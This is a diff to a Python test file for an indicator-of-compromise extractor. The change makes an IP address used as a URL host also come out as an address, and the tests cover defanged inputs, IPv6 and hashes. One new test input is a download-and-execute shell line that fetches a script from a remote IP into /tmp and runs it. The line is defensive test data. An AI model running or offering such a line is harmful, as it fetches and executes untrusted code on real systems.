@@ -157,8 +157,13 @@ def test_url_host_is_not_a_domain() -> None:
     assert [(i.type, i.value) for i in found] == [("url", "https://evil-site.com/p.bin")]
 
 
-def test_url_ip_host_is_not_an_ip() -> None:
-    assert values("get http://185.220.101.4/x now", "ipv4") == []
+def test_url_ip_host_is_also_reported_as_the_address() -> None:
+    line = "cd /tmp; wget http://185.220.101.4/x.sh; chmod +x x.sh; ./x.sh"
+    found = [(i.type, i.value) for i in extract(line)]
+    assert found == [("url", "http://185.220.101.4/x.sh"), ("ipv4", "185.220.101.4")]
+    assert values("get http://[2a0b:4140:6b12::2]:8080/dl.sh now", "ipv6") == ["2a0b:4140:6b12::2"]
+    assert values("see https://user@8.8.4.4:8443/a", "ipv4") == ["8.8.4.4"]
+    assert values("http://192.168.1.10/x and http://185.220.101.4.example.org/", "ipv4") == []
 
 
 def test_domain_alone_elsewhere_is_still_reported() -> None:
@@ -440,7 +445,7 @@ def test_hash_rejections(text: str) -> None:
 
 
 def test_all_digit_hash_is_kept() -> None:
-    assert values("id 12345678901234567890123456789012 seen", "md5") == [
+    assert values("sample 12345678901234567890123456789012 seen", "md5") == [
         "12345678901234567890123456789012"
     ]
 
@@ -653,9 +658,10 @@ def test_refang_url_roundtrip(
 ) -> None:
     written = f"{scheme[0]}{sep}{_defang_dots(host, styles)}{path}"
     found = extract(f"Download from {written} today")
-    assert [(i.type, i.value, i.defanged) for i in found] == [
-        ("url", f"{scheme[1]}://{host}{path}", True)
-    ]
+    expected = [("url", f"{scheme[1]}://{host}{path}", True)]
+    if host[0].isdigit():  # an address as host is also reported as the address
+        expected.append(("ipv4", host, True))
+    assert [(i.type, i.value, i.defanged) for i in found] == expected
 
 
 @settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
